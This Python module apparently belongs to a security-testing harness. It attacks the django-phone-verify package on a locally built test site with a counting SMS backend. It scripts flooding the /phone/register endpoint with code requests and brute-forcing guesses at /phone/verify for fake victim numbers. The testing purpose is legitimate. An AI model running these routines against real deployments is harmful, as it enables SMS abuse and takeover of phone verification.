"""Attacks on django-phone-verify: its two JSON views, which are open to anybody."""

from __future__ import annotations

from typing import Any

import django_site
from attack import Target, Victim, main

urlpatterns: list[Any] = []


class DjangoPhoneVerify(Target):
    """Set up with the values of its README's example; its settings have no defaults."""

    package = "django-phone-verify"
    beside = ("Django", "djangorestframework")
    limit = 5

    def app(self) -> Any:
        """A site with the package's own views."""
        application = django_site.build(
            self.database,
            ("rest_framework", "phone_verify"),
            PHONE_VERIFICATION={
                "BACKEND": "phone_verify_backend.Counting",
                "OPTIONS": {},
                "TOKEN_LENGTH": 6,
                "MESSAGE": "{app}: your code is {security_code}",
                "APP_NAME": "attacked",
                "SECURITY_CODE_EXPIRATION_SECONDS": 3600,
                "VERIFY_SECURITY_CODE_ONLY_ONCE": False,
            },
        )
        from django.urls import include, path
        from phone_verify_backend import Counting

        Counting.meter = self.meter
        urlpatterns.append(path("", include("phone_verify.urls")))
        return application

    def enrol(self, victim: Victim) -> None:
        """A number; there are no accounts."""
        victim.data["mobile"] = f"+120255501{victim.number:02}"

    def ask(self, victim: Victim) -> None:
        """Ask for a code, and go on with its session token."""
        wanted = {"phone_number": victim.data["mobile"]}
        reply = victim.browser.post_json("/phone/register", wanted)
        victim.data["token"] = reply.json["session_token"]

    flood = ask

    def come_again(self, victim: Victim) -> None:
        """The same view takes codes."""

    def guess(self, victim: Victim, code: str) -> bool:
        """Enter a code."""
        said = {
            "phone_number": victim.data["mobile"],
            "session_token": victim.data["token"],
            "security_code": code,
        }
        return victim.browser.post_json("/phone/verify", said).status == 200


if __name__ == "__main__":
    main(DjangoPhoneVerify)
